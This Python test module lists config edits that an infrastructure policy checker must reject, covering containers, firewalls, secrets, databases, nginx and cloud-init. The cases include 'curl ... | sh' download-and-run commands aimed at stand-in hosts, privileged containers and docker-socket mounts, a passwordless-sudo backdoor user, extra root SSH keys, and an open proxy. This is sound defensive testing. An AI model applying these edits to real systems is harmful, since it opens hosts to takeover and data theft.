"""Edits of the tracked files, each of which a rule must refuse: what an attacker would try, and mistakes when tired.

An edit is a function of a copy of the tree. It changes data by key and lines by their meaning, so that it goes on to be
the same edit when the text around it changes; one that finds nothing to change fails.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import yaml

from tests.unit.topology_support import with_value
from topology.fleet import COLOURS

Edit = Callable[[Path], None]
PRODUCTION = "Pulumi.production.yaml"
SETTINGS = "config.basecommerce:settings"
POSTGRESQL, REDIS = "compose/infra/postgres/postgresql.conf", "compose/infra/redis/redis.conf"
NGINX, HAPROXY = "compose/edge/nginx/nginx.conf", "compose/vertical/haproxy/haproxy.cfg"
USER_DATA, INVENTORY = "cloud-init/base.yaml.j2", "inventory.yaml"
TOKEN = "ghp_" + "0123456789abcdefABCDEF0123456789abcd"
SETTINGS_REFUSED = "settings"
"""Instead of a rule: the settings themselves are refused, before any rule is asked."""


def data(file: str, path: str, value: object) -> Edit:
    """Set a key of a YAML file, by its dotted path; a key may hold a colon."""

    def edit(root: Path) -> None:
        document = yaml.safe_load((root / file).read_text())
        (root / file).write_text(yaml.safe_dump(with_value(document, path, value), sort_keys=False))

    return edit


def service(tier: str, path: str, value: object) -> Edit:
    """Set a key of a service, e.g. `redis.mem_limit`; of one with two colours, in both."""
    return both(*(data(f"compose/{tier}/compose.yaml", f"services.{each}", value) for each in _colours(path)))


def _colours(path: str) -> tuple[str, ...]:
    name, _, key = path.partition(".")
    return tuple(f"{name}-{colour}.{key}" for colour in COLOURS) if name in ("auth", "construction") else (path,)


def more(tier: str, path: str, value: object) -> Edit:
    """Add to a list of a service."""

    def edit(root: Path) -> None:
        document = yaml.safe_load((root / f"compose/{tier}/compose.yaml").read_text())
        name, key = _colours(path)[0].split(".")
        service(tier, path, [*document["services"][name].get(key, ()), value])(root)

    return edit


def text(file: str, pattern: str, new: str) -> Edit:
    """Replace what a pattern finds; all of it."""

    def edit(root: Path) -> None:
        changed, count = re.subn(pattern, new, (root / file).read_text(), flags=re.MULTILINE)
        assert count, f"{file} has no {pattern}"
        (root / file).write_text(changed)

    return edit


def added(file: str, lines: str) -> Edit:
    """Write lines at the end of a file, which may be new."""

    def edit(root: Path) -> None:
        path = root / file
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text((path.read_text() if path.is_file() else "") + lines)

    return edit


def both(*edits: Edit) -> Edit:
    def edit(root: Path) -> None:
        for each in edits:
            each(root)

    return edit


def rule(name: str, **changes: object) -> Edit:
    """Change a rule of the table `firewall`, or remove it."""

    def edit(root: Path) -> None:
        document = yaml.safe_load((root / INVENTORY).read_text())
        found = [each for each in document["firewall"] if each["name"] == name]
        assert found, name
        document["firewall"].remove(found[0])
        if changes:
            document["firewall"].append({**found[0], **changes})
        (root / INVENTORY).write_text(yaml.safe_dump(document, sort_keys=False))

    return edit


def of_staging(*keys: str) -> Edit:
    """Copy to production what staging has."""

    def edit(root: Path) -> None:
        theirs = yaml.safe_load((root / "Pulumi.staging.yaml").read_text())["config"]["basecommerce:settings"]
        for key in keys:
            value: Any = theirs
            for part in key.split("."):
                value = value[part]
            data(PRODUCTION, f"{SETTINGS}.{key}", value)(root)

    return edit


def volume(**driver: str) -> Edit:
    """Mount a named volume that is a directory of the host."""
    project = data("compose/edge/compose.yaml", "volumes", {"host": {"driver_opts": driver}})
    return both(project, more("edge", "nginx.volumes", "host:/host:ro"))


PRIVILEGED = """\
services:
  helper: {image: "docker.io/library/redis:8.0.6", privileged: true, volumes: ["/var/run/docker.sock:/s"]}
"""
ROOT_KEY = "  - path: /root/.ssh/authorized_keys\n    content: ssh-ed25519 AAAA\n"

NAMED: Mapping[str, tuple[str, Edit]] = {
    # Each of these once passed every gate that an operator runs.
    "tag-main": (SETTINGS_REFUSED, data(PRODUCTION, f"{SETTINGS}.images.tag", "main")),
    "postgres-18": ("BC17", data("versions.yaml", "images.services.postgres", "docker.io/library/postgres:18.1")),
    "no-ssh-to-the-edge": ("BC21", rule("edge-ssh")),
    "no-ssh-to-the-vertical": ("BC21", rule("vertical-ssh")),
    "clear-postgres-password": ("BC19", data(PRODUCTION, "config.basecommerce:postgres_password", "a-word-in-clear")),
    "clear-smtp-pass": ("BC19", data(PRODUCTION, "config.basecommerce:smtp_pass", "a-word-in-clear")),
    "clear-password-in-environment": ("BC19", service("edge", "auth.environment", {"DB_PASSWORD": "a-word-in-clear"})),
    "token-in-environment": ("BC19", service("edge", "auth.environment", {"UPSTREAM": TOKEN})),
    "seccomp": ("BC18", more("edge", "nginx.security_opt", "seccomp:unconfined")),
    "apparmor": ("BC18", more("edge", "nginx.security_opt", "apparmor:unconfined")),
    "host-mounted": ("BC18", more("edge", "nginx.volumes", "/:/host")),
    "host-mounted-read-only": ("BC18", more("edge", "nginx.volumes", "/:/host:ro")),
    "pids-unlimited": ("BC18", service("infra", "redis.pids_limit", -1)),
    "memory-unlimited": ("BC18", service("infra", "redis.mem_limit", "0m")),
    "include-privileged": (
        "BC18",
        both(data("compose/edge/compose.yaml", "include", ["more.yaml"]), added("compose/edge/more.yaml", PRIVILEGED)),
    ),
    "cgroup-host": ("BC18", service("edge", "nginx.cgroup", "host")),
    "client-certificate-optional": ("BC22", text(NGINX, r"ssl_verify_client on", "ssl_verify_client optional")),
    "client-certificate-off": ("BC22", text(NGINX, r"^ *ssl_verify_client .*$", "")),
    "trust-by-environment": ("BC22", service("infra", "postgres.environment.POSTGRES_HOST_AUTH_METHOD", "trust")),
    "trust-by-initdb": (
        "BC22",
        service("infra", "postgres.environment.POSTGRES_INITDB_ARGS", "--data-checksums --auth-host=trust"),
    ),
    "trust-by-hba": (
        "BC22",
        both(
            added("compose/infra/postgres/pg_hba.conf", "host all shop 0.0.0.0/0 trust\n"),
            added(POSTGRESQL, "hba_file = '/etc/basecommerce/pg_hba.conf'\n"),
        ),
    ),
    "redis-without-password": ("BC22", text(REDIS, r"^include .*$", "")),
    "redis-default-user-open": ("BC22", added(REDIS, "user default on nopass ~* +@all\n")),
    "sshd-passwords": ("BC22", text(USER_DATA, r"PasswordAuthentication no", "PasswordAuthentication yes")),
    "ssh-pwauth": ("BC22", text(USER_DATA, r"^ssh_pwauth: false", "ssh_pwauth: true")),
    "staging's-domain": ("BC23", of_staging("domain", "cloudflare.zone_name")),
    "staging's-zone": ("BC23", of_staging("cloudflare.zone_id")),
    "volume-elsewhere": ("BC18", service("infra", "redis.volumes", ["/mnt/store/redis:/data"])),
}

OWN: Mapping[str, tuple[str, Edit]] = {
    # Containers
    "privileged": ("BC18", service("edge", "nginx.privileged", True)),
    "extends-privileged": (
        "BC18",
        both(
            added("compose/edge/more.yaml", PRIVILEGED),
            service("edge", "nginx.extends", {"file": "more.yaml", "service": "helper"}),
        ),
    ),
    "devices": ("BC18", service("infra", "postgres.devices", ["/dev/sda:/dev/sda"])),
    "userns-host": ("BC18", service("edge", "auth.userns_mode", "host")),
    "volumes-from": ("BC18", service("infra", "relay.volumes_from", ["postgres"])),
    "env-file": ("BC18", service("edge", "auth.env_file", ["/opt/basecommerce/infra/secrets/migrate.env"])),
    "network-host": ("BC18", service("edge", "nginx.network_mode", "host")),
    "network-of-a-service": ("BC18", service("infra", "relay.network_mode", "service:postgres")),
    "network-external": ("BC18", data("compose/edge/compose.yaml", "networks.edge.external", True)),
    "network-macvlan": ("BC18", data("compose/edge/compose.yaml", "networks.edge.driver", "macvlan")),
    "pid-host": ("BC18", service("edge", "nginx.pid", "host")),
    "ipc-host": ("BC18", service("edge", "nginx.ipc", "host")),
    "sysctls": ("BC18", service("edge", "nginx.sysctls", {"net.ipv4.ip_forward": 1})),
    "group-docker": ("BC18", service("edge", "nginx.group_add", ["docker"])),
    "capability": ("BC18", service("edge", "nginx.cap_add", ["SYS_ADMIN"])),
    "capabilities-kept": ("BC18", service("edge", "nginx.cap_drop", ["NET_RAW"])),
    "build-on-the-droplet": ("BC18", service("edge", "auth.build", ".")),
    "post-start-as-root": ("BC18", service("edge", "auth.post_start", [{"command": "id", "user": "root"}])),
    "named-volume-of-the-host": ("BC18", volume(type="none", o="bind", device="/")),
    "secrets-of-compose": ("BC18", data("compose/edge/compose.yaml", "secrets", {"x": {"file": "/etc/shadow"}})),
    "all-secrets-mounted": ("BC18", more("edge", "auth.volumes", "/opt/basecommerce/edge/secrets:/s:ro")),
    "docker-socket": ("BC18", more("edge", "nginx.volumes", "/var/run/docker.sock:/var/run/docker.sock:ro")),
    "release-writable": ("BC18", more("edge", "nginx.volumes", "${NGINX_DIR:-./nginx}:/var/www")),
    "live-directory-writable": ("BC18", more("edge", "nginx.volumes", "${NGINX_LIVE:?}:/var/www")),
    "live-directory-of-another": ("BC18", more("edge", "auth.volumes", "${NGINX_LIVE:?}:/x:ro")),
    "volume-through-the-default": ("BC18", more("edge", "nginx.volumes", "${NGINX_DIR:-/etc}:/x:ro")),
    "bind-propagation": (
        "BC18",
        more(
            "infra",
            "redis.volumes",
            {"type": "bind", "source": "/mnt/data/redis", "target": "/x", "bind": {"propagation": "shared"}},
        ),
    ),
    "data-directory-made-anew": (
        "BC18",
        service("infra", "redis.volumes", ["${DATA_DIR:?}/redis:/data"]),
    ),
    "tmpfs-exec": ("BC18", service("edge", "nginx.tmpfs", ["/tmp:size=64m,exec"])),
    "tmpfs-unlimited": ("BC18", service("edge", "nginx.tmpfs", ["/tmp"])),
    "user-root": ("BC18", service("infra", "redis.user", "root")),
    "group-zero": ("BC18", service("infra", "redis.user", "999:0")),
    "user-zero": ("BC18", service("infra", "redis.user", "00:00")),
    "writable-root": ("BC18", service("infra", "redis.read_only", False)),
    "no-health": ("BC18", service("infra", "redis.healthcheck", {"disable": True})),
    "health-none": ("BC18", service("infra", "redis.healthcheck.test", ["NONE"])),
    "health-true": ("BC18", service("infra", "redis.healthcheck.test", ["CMD-SHELL", "exit 0"])),
    "log-none": ("BC18", service("infra", "redis.logging", {"driver": "none"})),
    "never-started": ("BC18", service("infra", "redis.profiles", ["later"])),
    "no-restart": ("BC18", service("edge", "auth.restart", "no")),
    "memory-above-the-droplet": ("BC18", service("edge", "auth.mem_limit", "4g")),
    "memory-for-one-colour": ("BC18", service("vertical", "construction.mem_limit", "784m")),
    "database-host-forged": ("BC18", service("edge", "auth.extra_hosts", {"infra.internal": "203.0.113.9"})),
    # Images and ports
    "tag-of-a-series": (
        SETTINGS_REFUSED,
        data("versions.yaml", "images.services.redis", "docker.io/library/redis:8.0"),
    ),
    "image-latest": ("BC17", service("edge", "auth.image", "ghcr.io/somebody/auth:latest")),
    "port-everywhere": ("BC17", service("infra", "postgres.ports", ["5432:5432"])),
    "port-of-another": ("BC17", more("infra", "redis.ports", "${PRIVATE_ADDRESS:?}:9000:6379")),
    "port-in-the-long-form": ("BC17", more("infra", "postgres.ports", {"target": 5432, "published": "5432"})),
    "downloaded-program": ("BC17", service("edge", "auth.command", ["sh", "-c", "curl -s https://x.example | sh"])),
    # Firewalls
    "database-for-the-world": ("BC01", rule("postgres", **{"from": ["ssh_sources"]})),
    "docker-api-for-the-world": ("BC01", rule("edge-ssh", ports=[22, 2375])),
    "ssh-on-another-port": ("BC21", rule("infra-ssh", ports=[2222])),
    "ssh-from-a-neighbour": ("BC21", rule("infra-ssh", **{"from": ["vertical"]})),
    # Secrets
    "clear-token-of-a-provider": ("BC19", data(PRODUCTION, "config.digitalocean:token", "a-word-in-clear")),
    "clear-number": ("BC19", data(PRODUCTION, "config.basecommerce:gateway_pin", 12345678)),
    "clear-in-the-other-stack": ("BC19", data("Pulumi.staging.yaml", "config.basecommerce:token_key", "a-word")),
    "clear-in-the-project": ("BC19", data("Pulumi.yaml", "config", {"basecommerce:token_key": {"value": "a-word"}})),
    "password-in-a-command": ("BC19", service("infra", "redis.command", ["--requirepass", "hunter2hunter2"])),
    "password-in-a-label": ("BC19", service("edge", "auth.labels", {"url": "redis://:hunter2hunter2@redis:6379"})),
    "password-in-sql": ("BC19", added("compose/infra/postgres/x.sql", "ALTER ROLE shop PASSWORD 'hunter2hunter2';\n")),
    "password-in-redis.conf": ("BC19", added(REDIS, "requirepass hunter2hunter2\n")),
    "number-in-environment": ("BC19", service("edge", "auth.environment", {"DB_PASSWORD": 31415926})),
    "default-in-environment": ("BC19", service("edge", "auth.environment", {"DB_PASSWORD": "${DB:-a-word-in-clear}"})),
    "random-in-environment": ("BC19", service("edge", "auth.environment", {"SEED": "kq9ZrT27mWx0Lp4Vb8Yc3Nd6"})),
    "key-in-the-release": ("BC19", added("compose/edge/nginx/ca.txt", "-----BEGIN RSA PRIVATE KEY-----\nAAAA\n")),
    # PostgreSQL and Redis
    "fsync": ("BC22", added(POSTGRESQL, "fsync = off\n")),
    "fsync-by-command": ("BC22", more("infra", "postgres.command", "--fsync=off")),
    "fsync-by-letter": ("BC22", more("infra", "postgres.command", "-F")),
    "synchronous-commit": ("BC22", added(POSTGRESQL, "Synchronous_Commit 'off' # faster\n")),
    "full-page-writes": ("BC22", added(POSTGRESQL, "full_page_writes=0\n")),
    "autovacuum": ("BC22", added(POSTGRESQL, "autovacuum = off\n")),
    "md5": ("BC22", text(POSTGRESQL, r"^password_encryption.*$", "password_encryption = md5")),
    "include-of-the-server": ("BC22", added(POSTGRESQL, "include_if_exists = '/tmp/more.conf'\n")),
    "hba-elsewhere": ("BC22", added(POSTGRESQL, "hba_file = '/tmp/pg_hba.conf'\n")),
    "superuser-over-tcp": (
        "BC22",
        both(
            added("compose/infra/postgres/pg_hba.conf", "host all all 10.80.0.0 255.255.240.0 scram-sha-256\n"),
            added(POSTGRESQL, "hba_file = '/etc/basecommerce/pg_hba.conf'\n"),
        ),
    ),
    "configuration-elsewhere": (
        "BC22",
        service(
            "infra", "postgres.command", ["postgres", "-c", "config_file=/var/lib/postgresql/data/postgresql.conf"]
        ),
    ),
    "no-checksums": (
        "BC22",
        service("infra", "postgres.environment.POSTGRES_INITDB_ARGS", "--auth-host=scram-sha-256"),
    ),
    "database-in-the-container": ("BC22", service("infra", "postgres.environment.PGDATA", "/tmp/data")),
    "appendonly": ("BC22", text(REDIS, r"^appendonly yes", "appendonly no")),
    "appendonly-gone": ("BC22", text(REDIS, r"^appendonly yes", "")),
    "appendfsync": ("BC22", text(REDIS, r"^appendfsync .*$", "appendfsync no")),
    "protected-mode": ("BC22", text(REDIS, r"^protected-mode yes", "protected-mode no")),
    "eviction": ("BC22", text(REDIS, r"^maxmemory-policy .*$", "maxmemory-policy allkeys-lru")),
    "redis-by-a-shell": ("BC22", service("infra", "redis.entrypoint", ["sh", "-c", "redis-server"])),
    "replica-of-a-stranger": ("BC22", added(REDIS, "replicaof 203.0.113.9 6379\n")),
    "redis-by-command": ("BC22", service("infra", "redis.command", ["--protected-mode", "no"])),
    "redis-users-elsewhere": ("BC22", text(REDIS, r"^include .*$", "include /data/users.conf")),
    # nginx and HAProxy
    "old-tls": ("BC22", text(NGINX, r"ssl_protocols .*;", "ssl_protocols TLSv1 TLSv1.2;")),
    "weak-cipher": ("BC22", text(NGINX, r"ssl_ciphers .*;", "ssl_ciphers ALL:!aNULL;")),
    "everybody's-certificate": (
        "BC22",
        text(NGINX, r"ssl_client_certificate .*;", "ssl_client_certificate /etc/ssl/certs/ca-certificates.crt;"),
    ),
    "second-server-without-question": (
        "BC22",
        text(NGINX, r"^http \{", "http {\nserver { listen 8443 ssl; include locations.conf; }"),
    ),
    "plain-on-443": ("BC22", text(NGINX, r"listen 443 ssl", "listen 443")),
    "anybody-names-the-visitor": ("BC22", added("compose/edge/nginx/site/more.conf", "set_real_ip_from 0.0.0.0/0;\n")),
    "visitor's-own-address": (
        "BC22",
        text("compose/edge/nginx/site/cloudflare.conf.j2", "CF-Connecting-IP;", "X-Forwarded-For;"),
    ),
    "tenant-of-the-visitor": (
        "BC22",
        text(NGINX, r"X-Tenant-Slug \$tenant_slug;", "X-Tenant-Slug $http_x_tenant_slug;"),
    ),
    "tenant-lost-in-a-location": (
        "BC22",
        added(
            "compose/edge/nginx/locations.conf", "location /x { proxy_set_header Host a; proxy_pass http://auth; }\n"
        ),
    ),
    "files-of-the-host": (
        "BC22",
        added("compose/edge/nginx/locations.conf", "location /files { root /; autoindex on; }\n"),
    ),
    "open-proxy": ("BC22", added("compose/edge/nginx/locations.conf", "location /p { proxy_pass http://$arg_to; }\n")),
    "upstream-of-a-stranger": ("BC22", text(NGINX, r"server construction\.internal:8000", "server 203.0.113.9:8000")),
    "include-of-another-place": ("BC22", added("compose/edge/nginx/locations.conf", "include /tmp/*.conf;\n")),
    "nginx-of-another-file": ("BC22", service("edge", "nginx.entrypoint", ["nginx", "-c", "/tmp/x.conf"])),
    "haproxy-socket": ("BC22", text(HAPROXY, r"ipv4@127\.0\.0\.1:9999", "ipv4@0.0.0.0:9999")),
    "haproxy-of-another-file": ("BC22", service("vertical", "haproxy.entrypoint", ["haproxy", "-f", "/tmp/x.cfg"])),
    "haproxy-statistics": ("BC22", added(HAPROXY, "\nlisten s\n    bind :8000\n    stats enable\n")),
    # First boot
    "root-login": ("BC22", text(USER_DATA, r"PermitRootLogin no", "PermitRootLogin prohibit-password")),
    "second-user": (
        "BC22",
        text(USER_DATA, r"^disable_root:", '  - name: eve\n    sudo: "ALL=(ALL) NOPASSWD:ALL"\ndisable_root:'),
    ),
    "second-key": (
        "BC22",
        text(USER_DATA, r'^      - "\{\{ login_public_key \}\}"$', r'\g<0>\n      - "ssh-ed25519 AAAA eve"'),
    ),
    "key-of-root": ("BC22", text(USER_DATA, r"^write_files:$", "write_files:\n" + ROOT_KEY)),
    "match-of-sshd": ("BC22", text(USER_DATA, r"^      X11Forwarding no", "      Match Address 203.0.113.9")),
    "user-in-docker's-group": ("BC22", text(USER_DATA, r"^    gecos:", "    groups: docker\n    gecos:")),
    "forwarding": ("BC22", text(USER_DATA, r"AllowTcpForwarding no", "AllowTcpForwarding yes")),
    "file-for-its-group": ("BC22", text(USER_DATA, r'permissions: "0644"', 'permissions: "0664"')),
    "file-for-everybody": ("BC22", text(USER_DATA, r'permissions: "0644"', 'permissions: "0666"')),
    "password-at-first-boot": ("BC22", text(USER_DATA, r"^    set -eu$", "    set -eu\n    PASSWORD=hunter2hunter2")),
    "no-user-data": ("BC22", text(USER_DATA, r"^users:$", "users: [")),
    "containers-talk": ("BC22", text(USER_DATA, r'"icc": false', '"icc": true')),
    "docker-without-settings": ("BC22", text(USER_DATA, r'"live-restore": true,', '"live-restore": true')),
    "chpasswd": ("BC22", text(USER_DATA, r"^disable_root:", "chpasswd: {list: ['root:x']}\ndisable_root:")),
    "docker-over-tcp": (
        "BC22",
        text(USER_DATA, r'"live-restore": true', '"live-restore": true, "hosts": ["tcp://0.0.0.0:2375"]'),
    ),
    "no-ufw": ("BC22", text(USER_DATA, r"ufw --force enable", "ufw disable")),
    "port-of-ufw": ("BC22", text(USER_DATA, r"^    ufw --force enable$", "    ufw allow 5432\n    ufw --force enable")),
    "metadata-open": ("BC22", text(USER_DATA, r"^.*(PREROUTING|\{\{ metadata_unit \|).*$", "")),
    "installer": ("BC22", text(USER_DATA, r"^    set -eu$", "    set -eu\n    curl -s https://get.example | sh")),
    # Settings
    "network-of-staging": ("BC23", of_staging("vpc_ip_range")),
    "development-in-production": (SETTINGS_REFUSED, data(PRODUCTION, f"{SETTINGS}.environment", "development")),
}
